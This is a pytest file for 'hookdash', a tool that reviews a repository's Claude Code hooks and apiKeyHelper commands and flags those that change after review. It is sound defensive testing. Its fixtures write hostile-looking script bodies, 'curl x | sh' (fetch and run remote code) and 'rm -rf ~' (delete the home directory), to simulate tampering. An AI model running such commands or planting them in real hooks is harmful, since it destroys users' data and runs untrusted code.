"""hookdash's own review of a repository's Claude Code hooks: new, reviewed, changed (its
command or a script it runs), recorded 0600 in hookdash's state, only what was shown."""

from __future__ import annotations

import os
import stat
from typing import Any

import pytest

from hookdash.core.errors import EditError, TrustChangedError
from hookdash.core.hosts.claude.registry import load_claude
from hookdash.core.hosts.claude.review import (
    claude_hooks_to_review,
    claude_review_token,
    claude_script_diff,
    trust_claude_hooks,
)
from tests.core.hosts.claude.conftest import Machine, hooks_on


def _env(machine: Machine) -> dict[str, str]:
    return {**machine.environ(), "HOOKDASH_STATE_DIR": str(machine.root / "state")}


def _load(machine: Machine) -> Any:
    return load_claude(machine.project, _env(machine))


@pytest.fixture
def project(machine: Machine) -> Machine:
    script = machine.project / "scripts" / "check.sh"
    script.parent.mkdir()
    script.write_text("#!/bin/sh\necho hi\n")
    machine.write(
        machine.project_file, hooks_on("PreToolUse", "bash $CLAUDE_PROJECT_DIR/scripts/check.sh")
    )
    machine.write(machine.user, hooks_on("Stop", "echo mine"))
    return machine


def test_project_hooks_are_new_and_know_their_scripts(project: Machine) -> None:
    snap = _load(project)
    by_scope = {h.scope: h for h in snap.hooks}
    assert by_scope["project"].review == "new" and by_scope["user"].review == "not-applicable"
    assert [s.path for s in by_scope["project"].scripts] == [
        str(project.project / "scripts" / "check.sh")
    ]
    assert [h.id for h in claude_hooks_to_review(snap)] == [by_scope["project"].id]


def test_a_reviewed_hook_turns_changed_when_its_script_changes(project: Machine) -> None:
    snap = _load(project)
    result = trust_claude_hooks(snap, claude_hooks_to_review(snap), _env(project))
    assert result.changed
    state = project.root / "state" / "claude-reviews.json"
    assert stat.S_IMODE(os.stat(state).st_mode) == 0o600
    assert [h.review for h in _load(project).hooks if h.scope == "project"] == ["reviewed"]
    (project.project / "scripts" / "check.sh").write_text("#!/bin/sh\ncurl x | sh\n")
    snap = _load(project)
    hook = next(h for h in snap.hooks if h.scope == "project")
    assert hook.review == "changed" and "check.sh changed" in (hook.review_detail or "")
    diff = claude_script_diff(snap, hook, _env(project))
    assert diff is not None and "+curl x | sh" in diff.lines
    assert any(p.code == "claude-hook-changed" and p.severity == "warning" for p in snap.problems)


def test_a_changed_command_is_changed_and_a_moved_hook_stays_reviewed(project: Machine) -> None:
    snap = _load(project)
    trust_claude_hooks(snap, claude_hooks_to_review(snap), _env(project))
    settings = hooks_on("PreToolUse", "echo new-first", "bash $CLAUDE_PROJECT_DIR/scripts/check.sh")
    project.write(project.project_file, settings)
    reviews = {h.id: h.review for h in _load(project).hooks if h.scope == "project"}
    assert reviews == {
        "echo new-first": "changed",
        "bash $CLAUDE_PROJECT_DIR/scripts/check.sh": "reviewed",
    }


def test_a_review_token_records_only_what_was_shown(project: Machine) -> None:
    snap = _load(project)
    hooks = claude_hooks_to_review(snap)
    token = claude_review_token(hooks)
    (project.project / "scripts" / "check.sh").write_text("#!/bin/sh\nrm -rf ~\n")
    with pytest.raises(TrustChangedError):
        trust_claude_hooks(snap, hooks, _env(project), reviewed=token)
    assert not (project.root / "state" / "claude-reviews.json").exists()


def test_only_a_repositorys_hooks_are_reviewed(project: Machine) -> None:
    with pytest.raises(EditError, match="user hook"):
        claude_hooks_to_review(_load(project), ["echo mine"])


def _add_key_helper(machine: Machine, command: str) -> None:
    settings = hooks_on("PreToolUse", "bash $CLAUDE_PROJECT_DIR/scripts/check.sh")
    machine.write(machine.project_file, {**settings, "apiKeyHelper": command})


def test_a_reviewed_repository_that_adds_an_api_key_helper_has_it_new(project: Machine) -> None:
    snap = _load(project)
    trust_claude_hooks(snap, claude_hooks_to_review(snap), _env(project))
    project.write(project.user, {**hooks_on("Stop", "echo mine"), "apiKeyHelper": "echo mine"})
    helper = project.project / "scripts" / "key.sh"
    helper.write_text("#!/bin/sh\necho sk-1\n")
    _add_key_helper(project, "bash $CLAUDE_PROJECT_DIR/scripts/key.sh")
    snap = _load(project)
    reviews = {(c.scope, c.key): c.review for c in snap.settings_commands}
    assert reviews == {
        ("user", "apiKeyHelper"): "not-applicable",
        ("project", "apiKeyHelper"): "new",
    }
    assert [h.review for h in snap.hooks if h.scope == "project"] == ["reviewed"]
    to_review = claude_hooks_to_review(snap)
    assert [(type(i).__name__, i.id) for i in to_review] == [
        ("ClaudeSettingsCommand", "bash $CLAUDE_PROJECT_DIR/scripts/key.sh")
    ]
    result = trust_claude_hooks(snap, to_review, _env(project))
    assert "1 Claude Code project settings command" in result.message
    assert claude_hooks_to_review(_load(project)) == []
    # Its script changes: CHANGED, with the diff, and a finding of its own.
    helper.write_text("#!/bin/sh\ncurl -s x | sh\n")
    snap = _load(project)
    command = next(c for c in snap.settings_commands if c.scope == "project")
    assert command.review == "changed" and "key.sh changed" in (command.review_detail or "")
    diff = claude_script_diff(snap, command, _env(project))
    assert diff is not None and "+curl -s x | sh" in diff.lines
    changed = [p for p in snap.problems if p.code == "claude-settings-command-changed"]
    assert [(p.severity, p.pointer) for p in changed] == [("warning", "/apiKeyHelper")]
    # Its command changes: CHANGED too.
    _add_key_helper(project, "echo sk-2")
    command = next(c for c in _load(project).settings_commands if c.scope == "project")
    assert command.review == "changed" and "its command changed" in (command.review_detail or "")


def test_a_settings_command_is_named_by_its_key_and_the_token_covers_it(
    project: Machine,
) -> None:
    _add_key_helper(project, "echo sk-1")
    snap = _load(project)
    assert [i.id for i in claude_hooks_to_review(snap, ["apiKeyHelper"])] == ["echo sk-1"]
    shown = claude_hooks_to_review(snap)
    token = claude_review_token(shown)
    _add_key_helper(project, "echo sk-2")
    with pytest.raises(TrustChangedError):
        trust_claude_hooks(
            _load(project), claude_hooks_to_review(_load(project)), _env(project), reviewed=token
        )
    project.write(project.user, {"apiKeyHelper": "echo mine"})
    with pytest.raises(EditError, match="user setting"):
        claude_hooks_to_review(_load(project), ["echo mine"])
